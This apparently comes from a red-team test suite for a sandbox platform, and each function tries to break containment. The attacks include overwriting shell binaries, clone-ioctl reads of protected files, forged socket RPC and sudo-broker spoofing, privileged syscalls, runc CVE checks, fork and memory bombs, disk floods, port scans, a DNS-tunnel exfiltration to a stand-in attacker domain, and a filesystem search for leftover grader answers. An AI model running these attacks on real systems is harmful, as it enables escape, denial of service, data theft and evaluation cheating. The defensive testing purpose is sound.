"""The attacks of DSec's incident list (and the classic container escapes),
each run inside a real sandbox. Used by tests/redteam and bench/guard.py.

Every attack returns an Outcome: whether it was contained and what the
sandbox saw. The caller also checks the neighbour and the audit.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import statistics
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import corral

IMAGE = "debian-python:bookworm"


@dataclass
class Outcome:
    contained: bool
    detail: str
    extra: dict[str, Any] = field(default_factory=dict)


class Neighbour:
    """A sandbox with a steady workload and files that must not change."""

    def __init__(self, sbx: corral.AsyncSandbox, load: corral.AsyncCommandHandle) -> None:
        self.sbx = sbx
        self.load = load
        self.baseline = 0.0
        self.digest = ""

    @classmethod
    async def start(cls, client: corral.AsyncClient) -> Neighbour:
        sbx = await client.sandboxes.create(
            image=IMAGE, cpu=0.5, memory="128MiB", labels={"role": "neighbour"}
        )
        await sbx.files.write("/work/data.bin", hashlib.sha256(b"seed").digest() * 30000)
        load = await sbx.commands.start(
            "while true; do python3 -c 'sum(range(200000))'; sleep 0.05; done"
        )
        n = cls(sbx, load)
        n.digest = await n.fingerprint()
        n.baseline = await n.latency()
        return n

    async def latency(self, samples: int = 21) -> float:
        """Median exec round trip of `true`, seconds."""
        times = []
        for _ in range(samples):
            t0 = time.perf_counter()
            await self.sbx.commands.run(["true"], timeout=30)
            times.append(time.perf_counter() - t0)
        return statistics.median(times)

    async def fingerprint(self) -> str:
        r = await self.sbx.commands.run(
            "sha256sum /work/data.bin /etc/passwd /usr/bin/python3.11 | sha256sum", timeout=60
        )
        return r.stdout

    async def unaffected(self) -> tuple[bool, float, str]:
        """(files unchanged, latency ratio, detail)."""
        ratio = await self.latency() / self.baseline
        same = await self.fingerprint() == self.digest
        return same, ratio, f"neighbour latency x{ratio:.2f}, files {'same' if same else 'CHANGED'}"

    async def stop(self) -> None:
        await self.load.kill()
        await self.sbx.close()


async def during(neighbour: Neighbour, attack: Awaitable[Outcome]) -> tuple[Outcome, float]:
    """Run the attack and, meanwhile, measure the neighbour's latency."""
    task = asyncio.ensure_future(attack)
    await asyncio.sleep(0.3)
    ratio = await neighbour.latency(21) / neighbour.baseline
    return await task, ratio


PY = "python3 -c "


def _py(code: str) -> list[str]:
    return ["python3", "-c", code]


# ----------------------------------------------------------------- the attacks


async def replace_platform_binaries(sbx: corral.AsyncSandbox) -> Outcome:
    """DSec incident 1: replace /bin/bash (and friends) to inject commands
    into what the platform runs later."""
    evil = "#!/bin/sh.real\\necho INJECTED; touch /tmp/corral-pwned\\n"
    await sbx.commands.run(
        "cp /bin/sh /bin/sh.real; for f in /bin/sh /bin/bash /bin/dash /usr/bin/env /bin/cat "
        f"/usr/bin/tar; do printf '{evil}' > $f; chmod 755 $f; done"
    )
    r = await sbx.commands.run("echo platform-says-hi")
    tar = await sbx.files.download_tar("/etc")
    data = await sbx.files.read("/etc/hostname")
    ok = r.stdout == "platform-says-hi\n" and len(tar) > 1000 and b"INJECTED" not in data
    return Outcome(ok, f"platform command printed {r.stdout.strip()!r}")


EXTENT_SCRIPT = r"""
import ctypes, fcntl, os, struct
libc = ctypes.CDLL(None, use_errno=True)
src = os.open("/etc/protected-answer", os.O_RDONLY)
dst = os.open("/tmp/steal", os.O_RDWR | os.O_CREAT, 0o600)
res = {}
for name, cmd, arg in [
    ("FICLONE", 0x40049409, src),
    ("FICLONERANGE", 0x4020940D, struct.pack("qQQQ", src, 0, 0, 0)),
    ("FIDEDUPERANGE", 0xC0189436, bytearray(64)),
    ("XFS_IOC_SWAPEXT", 0xC0C0586D, bytearray(192)),
    ("EXT4_IOC_MOVE_EXT", 0xC028660F, bytearray(40)),
    ("FS_IOC_EXCHANGE_RANGE", 0x40285881, bytearray(40)),
    ("FICLONE_HIGH_BITS", 0x1_40049409, src),
]:
    if isinstance(arg, int):
        r = libc.syscall(16, dst, ctypes.c_ulong(cmd), arg)
        res[name] = ctypes.get_errno() if r < 0 else 0
    else:
        buf = ctypes.create_string_buffer(bytes(arg), len(arg))
        r = libc.syscall(16, dst, ctypes.c_ulong(cmd), buf)
        res[name] = ctypes.get_errno() if r < 0 else 0
import json
print(json.dumps(res))
print("stolen", open("/tmp/steal").read()[:40])
"""


async def extent_ioctls(sbx: corral.AsyncSandbox) -> Outcome:
    """DSec incident 2: swap or clone extents of a file the sandbox may read
    but not write, into its own file."""
    await sbx.files.write("/etc/protected-answer", "42 is the answer\n", mode=0o444)
    await sbx.commands.run("chattr +i /etc/protected-answer 2>/dev/null; true")
    r = await sbx.commands.run(_py(EXTENT_SCRIPT), user="nobody", timeout=60)
    first = r.stdout.splitlines()[0] if r.stdout else ""
    errors = json.loads(first) if first.startswith("{") else {}
    ok = bool(errors) and all(e == 1 for e in errors.values()) and "42" not in r.stdout
    intact = (await sbx.files.read("/etc/protected-answer")) == b"42 is the answer\n"
    return Outcome(ok and intact, f"errnos {errors}; file intact: {intact}")


FORGE_SCRIPT = r"""
import os, socket, struct, stat
found, results = [], []
for root, dirs, files in os.walk("/", topdown=True):
    dirs[:] = [d for d in dirs if not (root == "/" and d in ("proc", "sys"))]
    for f in files:
        p = os.path.join(root, f)
        try:
            if stat.S_ISSOCK(os.lstat(p).st_mode):
                found.append(p)
        except OSError:
            pass
ping = struct.pack("<IIB", 0, 0, 1)
exec_frame = struct.pack("<IIB", 4, 0, 0x10) + b"\0\0\0\0"
targets = found + ["/proc/1/fd/" + fd for fd in os.listdir("/proc/1/fd")]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
                    targets.append(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
for t in targets:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    try:
        s.connect(t); s.sendall(ping + exec_frame); results.append((t, s.recv(64)))
    except OSError as e:
        results.append((t, e.errno))
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, 1, 0)
print("pidfd_getfd", libc.syscall(438, pidfd, 3, 0), ctypes.get_errno())
print("answered", [r for r in results if isinstance(r[1], bytes) and r[1]])
"""


async def forge_control_requests(sbx: corral.AsyncSandbox) -> Outcome:
    """DSec incident 3: forged RPC to every socket or fd the sandbox can see."""
    r = await sbx.commands.run(_py(FORGE_SCRIPT), timeout=120)
    ok = "answered []" in r.stdout and "pidfd_getfd -1 1" in r.stdout
    return Outcome(ok, r.stdout.strip().replace("\n", "; ")[:300])


# As a user the image does not name (nobody), against the platform's sudo
# (native/sudo.h): a request of its own making, one claiming another uid
# (SCM_CREDENTIALS), and a broker of its own in the socket's place.
STEAL_SUDO_SCRIPT = r"""
import os, socket, struct
req = struct.pack("<III", 3, 0, 0) + b"0\0/\0sh\0-c\0touch /tmp/owned\0"  # native/sudo.c
def ask(creds):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.connect("/run/corral-sudo")
        anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", 0, 1, 2))]
        if creds:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
            anc.append((socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", os.getpid(), 1000, 1000)))
        s.sendmsg([req], anc)
        return s.recv(512)[:1]
    except OSError as e:
        return e.errno
print("plain", ask(False))
print("forged", ask(True))
for path in ("/run/corral-sudo", "/run/x"):
    try:
        os.unlink(path)
        print("replaced", path)
    except OSError:
        pass
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).bind(path)
        print("bound", path)
    except OSError:
        pass
print("owned", os.path.exists("/tmp/owned"))
"""


async def steal_sudo(sbx: corral.AsyncSandbox) -> Outcome:
    """Root through the platform's sudo, as a user its image does not name."""
    r = await sbx.commands.run(_py(STEAL_SUDO_SCRIPT), user="nobody", timeout=60)
    after = await sbx.commands.run("test -e /tmp/owned; echo $?", user="root")
    ok = (
        "plain" in r.stdout  # refused (b'E', or a reset) or unreachable: never b'S'
        and "b'S'" not in r.stdout
        and "replaced" not in r.stdout
        and "bound" not in r.stdout
        and "owned False" in r.stdout
        and after.stdout.strip() == "1"
    )
    return Outcome(ok, (r.stdout + r.stderr).strip().replace("\n", "; ")[:300])


async def read_for_answers(sbx: corral.AsyncSandbox) -> Outcome:
    """DSec incident 3: search logs and the whole file system for leftover
    reference answers (the platform keeps graders and logs on the host)."""
    r = await sbx.commands.run(
        "grep -rIl --exclude-dir=proc --exclude-dir=sys -e CORRAL-SECRET-ANSWER "
        "-e THE-REFERENCE-SOLUTION / 2>/dev/null | head; echo done",
        timeout=300,
    )
    ok = r.stdout.strip() == "done"
    return Outcome(ok, f"matches: {r.stdout.strip().splitlines()[:-1]}")


MASKED_CHECK = (
    "for f in /proc/kcore /proc/kpageflags /proc/kpagecount /proc/kpagecgroup "
    "/proc/sched_debug /proc/sysrq-trigger /sys/kernel/debug/tracing/trace /proc/keys "
    "/proc/timer_list; do n=$(head -c 16 $f 2>/dev/null | wc -c); "
    '[ "$n" -gt 0 ] && echo readable $f; done; echo end'
)


async def recursive_grep_from_root(sbx: corral.AsyncSandbox) -> Outcome:
    """DSec incident 4: a recursive search from / that reached a kernel
    memory accounting file in /proc crashed the host. Here the kernel's
    memory files are masked. `grep -r x /` itself never ends in any
    container: it reads every process's /proc/<pid>/pagemap (8 bytes per
    page of a 128 TiB address space: minutes each) and blocks reading a new
    pty master (/dev/pts/ptmx); so it is bounded by its command timeout.
    Skipping binary files and devices (-I -D skip), it finishes."""
    t0 = time.monotonic()
    try:
        r = await sbx.commands.run("grep -rs x / >/dev/null 2>&1; echo finished", timeout=45)
        plain = f"grep -r finished in {time.monotonic() - t0:.0f}s"
    except corral.CommandTimeout:
        plain = "grep -r stopped at its 45 s timeout"
    t1 = time.monotonic()
    r = await sbx.commands.run("grep -rIs -D skip x / >/dev/null 2>&1; echo finished", timeout=600)
    masked = await sbx.commands.run(MASKED_CHECK)
    readable = [ln for ln in masked.stdout.splitlines() if ln.startswith("readable")]
    ok = r.stdout.strip() == "finished" and "end" in masked.stdout and not readable
    return Outcome(
        ok,
        f"{plain}; grep -rI -D skip finished in {time.monotonic() - t1:.0f}s; "
        f"readable masked files: {readable}",
    )


async def write_kernel_knobs(sbx: corral.AsyncSandbox) -> Outcome:
    """Writes to /proc/sys, sysrq and core_pattern."""
    with open("/proc/sys/kernel/core_pattern") as f:
        before = f.read()
    r = await sbx.commands.run(
        "for t in /proc/sys/kernel/sysrq:1 /proc/sysrq-trigger:c "
        "'/proc/sys/kernel/core_pattern:|/tmp/x' /proc/sys/vm/drop_caches:3 "
        "/proc/sys/kernel/panic:1; do f=${t%%:*}; v=${t#*:}; "
        'echo "$v" > $f 2>/dev/null && echo wrote $f; done; echo end'
    )
    with open("/proc/sys/kernel/core_pattern") as f:
        after = f.read()
    wrote = [ln for ln in r.stdout.splitlines() if ln.startswith("wrote")]
    # /proc/sysrq-trigger is masked by /dev/null: "writing" it goes nowhere.
    harmful = [w for w in wrote if "sysrq-trigger" not in w]
    ok = "end" in r.stdout and not harmful and before == after
    return Outcome(
        ok,
        f"writes that went through: {wrote or 'none'}; "
        f"host core_pattern unchanged: {before == after}",
    )


PRIV_SCRIPT = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *a):
    r = libc.syscall(nr, *[ctypes.c_long(x) for x in a])
    return 0 if r >= 0 else ctypes.get_errno()
res = {
  "mount": call(165, 0, 0, 0, 0, 0), "unshare": call(272, 0x20000), "setns": call(308, 0, 0),
  "ptrace": call(101, 16, int(os.environ.get("TARGET", "1")), 0, 0), "keyctl": call(250, 0, 0, 0),
  "bpf": call(321, 0, 0, 0), "userfaultfd": call(323, 0), "perf_event_open": call(298, 0, 0, 0, 0, 0),
  "kexec_load": call(246, 0, 0, 0, 0), "open_by_handle_at": call(304, 0, 0, 0),
  "init_module": call(175, 0, 0, 0), "io_uring_setup": call(425, 1, 0), "pivot_root": call(155, 0, 0),
}
import json
print(json.dumps(res))
"""


async def privileged_syscalls(sbx: corral.AsyncSandbox, neighbour_pid: int) -> Outcome:
    """mount, unshare, setns, ptrace of a neighbour, keyctl, bpf, userfaultfd,
    perf_event_open, kexec_load, open_by_handle_at (and module loading)."""
    r = await sbx.commands.run(_py(PRIV_SCRIPT), env={"TARGET": str(neighbour_pid)})
    res = json.loads(r.stdout) if r.stdout.strip().startswith("{") else {}
    ok = bool(res) and all(e == 1 for e in res.values())  # EPERM from the agent's policy
    return Outcome(ok, f"errnos {res}")


CVE_SCRIPT = r"""
import os
out = []
try:
    open("/proc/self/exe", "r+b"); out.append("self-exe writable")
except OSError as e:
    out.append(f"self-exe {e.errno}")
try:
    open("/proc/1/exe", "r+b"); out.append("init-exe writable")
except OSError as e:
    out.append(f"init-exe {e.errno}")
fds = os.listdir("/proc/self/fd")
out.append("fds " + ",".join(sorted(fds)))
out.append("links " + ";".join(sorted(os.readlink(f"/proc/self/fd/{f}") for f in fds
                                     if f not in ("3",))))
out.append("cwd " + os.readlink("/proc/self/cwd"))
out.append("root " + os.readlink("/proc/self/root"))
print("\n".join(out))
"""


async def runc_cve_classes(sbx: corral.AsyncSandbox) -> Outcome:
    """/proc/self/exe overwrite (CVE-2019-5736) and a leaked host fd as cwd
    (CVE-2024-21626)."""
    r = await sbx.commands.run(_py(CVE_SCRIPT), cwd="/tmp")
    lines = dict(line.split(" ", 1) for line in r.stdout.strip().splitlines())
    leaked = [
        p
        for p in lines.get("links", "").split(";")
        if p.startswith("/") and not p.startswith(("/dev/", "/proc/", "/tmp"))
    ]
    ok = (
        "writable" not in r.stdout
        and lines.get("cwd") == "/tmp"
        and lines.get("root") == "/"
        and not leaked
    )
    return Outcome(ok, r.stdout.strip().replace("\n", "; ")[:300])


async def fork_bomb(sbx: corral.AsyncSandbox) -> Outcome:
    """A bash fork bomb: it returns at once and keeps forking behind."""
    await sbx.commands.run("bash -c 'bomb(){ bomb | bomb & }; bomb'", timeout=10)
    await asyncio.sleep(3)
    # The pids limit holds it; the platform can still clear the sandbox
    # (corral-init kills every other process without needing to fork).
    await sbx.commands.kill_all()
    await asyncio.sleep(0.5)
    alive = await sbx.commands.run("echo alive", timeout=60)
    return Outcome(alive.stdout == "alive\n", "bomb held by pids.max, cleared, sandbox answers")


async def memory_bomb(sbx: corral.AsyncSandbox) -> Outcome:
    r = await sbx.commands.run(_py("x = []\nwhile True: x.append(bytearray(8 << 20))"), timeout=60)
    alive = await sbx.commands.run("echo alive")
    return Outcome(
        r.signal == 9 and alive.stdout == "alive\n",
        f"bomb killed by signal {r.signal}; sandbox alive",
    )


async def disk_fill(sbx: corral.AsyncSandbox) -> Outcome:
    import shutil

    free = shutil.disk_usage("/").free
    r = await sbx.commands.run(
        "dd if=/dev/zero of=/fill bs=1M count=100000 2>&1 | grep -i dd:", timeout=120
    )
    lost = free - shutil.disk_usage("/").free
    ok = ("quota" in r.stdout.lower() or "no space" in r.stdout.lower()) and lost < 256 << 20
    return Outcome(
        ok,
        f"{r.stdout.strip().splitlines()[0] if r.stdout else ''}; host disk used {lost >> 20} MiB",
    )


async def inode_exhaustion(sbx: corral.AsyncSandbox) -> Outcome:
    r = await sbx.commands.run(
        _py(
            "import os\nos.makedirs('/many', exist_ok=True)\nn = 0\n"
            "try:\n    while True:\n        open(f'/many/{n}', 'w').close(); n += 1\n"
            "except OSError as e:\n    print(n, e.errno)"
        ),
        timeout=300,
    )
    parts = r.stdout.split()
    ok = len(parts) == 2 and parts[1] in ("122", "28")  # EDQUOT or ENOSPC
    return Outcome(
        ok,
        f"created {parts[0] if parts else '?'} files, then errno "
        f"{parts[1] if len(parts) > 1 else '?'}",
    )


async def output_flood(sbx: corral.AsyncSandbox) -> Outcome:
    """DSec incident 6: an endless printer (and a 10 GB stdout)."""
    t0 = time.monotonic()
    r = await sbx.commands.run("head -c 10000000000 /dev/zero", timeout=120)
    try:
        await sbx.commands.run("yes", timeout=3)
    except corral.CommandTimeout as exc:
        y = exc.result  # type: ignore[attr-defined]
    kept = len(r.stdout) + len(y.stdout)
    ok = r.truncated and r.stdout_bytes == 10_000_000_000 and kept <= 2 * (1 << 20)
    return Outcome(
        ok,
        f"10 GB run in {time.monotonic() - t0:.0f}s, kept {kept} bytes, "
        f"yes produced {y.stdout_bytes} bytes",
    )


SCAN_SCRIPT = r"""
import socket, sys
open_ = []
for host in sys.argv[1:]:
    for port in (22, 53, 80, 443, 2024, 7070, 7071, 8080, 10053, 10153):
        s = socket.socket(); s.settimeout(0.3)
        try:
            s.connect((host, port)); open_.append(f"{host}:{port}")
        except OSError:
            pass
        s.close()
print("open", open_)
"""


async def port_scan(sbx: corral.AsyncSandbox, targets: list[str]) -> Outcome:
    r = await sbx.commands.run(["python3", "-c", SCAN_SCRIPT, *targets], timeout=300)
    return Outcome("open []" in r.stdout, r.stdout.strip())


FETCH = r"""
import sys, urllib.request
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=3).read(60).decode(errors="replace"))
except Exception as e:
    print("blocked", type(e).__name__, e)
"""


# Holds a connection to the stand-in's echo server and one over loopback;
# once /tmp/go exists, uses both and writes what happened to /tmp/result.
HOLD = r"""
import os, socket, sys, time
outside = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
server = socket.socket()
server.bind(("127.0.0.1", 7000))
server.listen()
loop = socket.create_connection(("127.0.0.1", 7000))
peer, _ = server.accept()
open("/tmp/held.new", "w").write("held")
os.replace("/tmp/held.new", "/tmp/held")  # whole when seen: a reader polls for it
while not os.path.exists("/tmp/go"):
    time.sleep(0.05)
seen = []
try:
    outside.sendall(b"ping\n")
    seen.append("outside:" + outside.recv(16).decode().strip())
except OSError as e:
    seen.append("outside:" + type(e).__name__)
loop.sendall(b"x")
seen.append("loopback:" + peer.recv(1).decode())
open("/tmp/result.new", "w").write(" ".join(seen))
os.replace("/tmp/result.new", "/tmp/result")
"""


async def wait_file(sbx: corral.AsyncSandbox, path: str, timeout: float = 60) -> str:
    deadline = time.monotonic() + timeout
    while True:
        try:
            return await sbx.files.read_text(path)
        except corral.FileNotFound:
            assert time.monotonic() < deadline, f"{path} never appeared in {sbx.id}"
            await asyncio.sleep(0.1)


# The address a sandbox sends from (no packet leaves: a UDP connect).
OWN_ADDRESS = (
    "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    "s.connect(('10.212.0.2', 9)); print(s.getsockname()[0])"
)


async def own_address(sbx: corral.AsyncSandbox) -> str:
    return (await sbx.commands.run(["python3", "-c", OWN_ADDRESS])).stdout.strip()


async def fetch(sbx: corral.AsyncSandbox, url: str) -> str:
    r = await sbx.commands.run(["python3", "-c", FETCH, url], timeout=60)
    return r.stdout.strip()


async def egress_to_denied(sbx: corral.AsyncSandbox, by_name: str, by_ip: str) -> Outcome:
    a, b = await fetch(sbx, by_name), await fetch(sbx, by_ip)
    return Outcome(a.startswith("blocked") and b.startswith("blocked"), f"by name: {a}; by IP: {b}")


TUNNEL_SCRIPT = r"""
import base64, socket
secret = b"the hidden test expects 42 and the reference patch is in /grader"
ok = 0
for i in range(0, len(secret), 20):
    label = base64.b32encode(secret[i:i+20]).decode().rstrip("=").lower()
    for name in (f"{label}.{i}.exfil.attacker.test", f"{label}.pypi.test.attacker.test"):
        try:
            socket.gethostbyname(name); ok += 1
        except OSError:
            pass
print("resolved", ok)
"""


async def dns_tunnel(sbx: corral.AsyncSandbox) -> Outcome:
    r = await sbx.commands.run(["python3", "-c", TUNNEL_SCRIPT], timeout=120)
    return Outcome("resolved 0" in r.stdout, r.stdout.strip())


Attack = Callable[..., Awaitable[Outcome]]
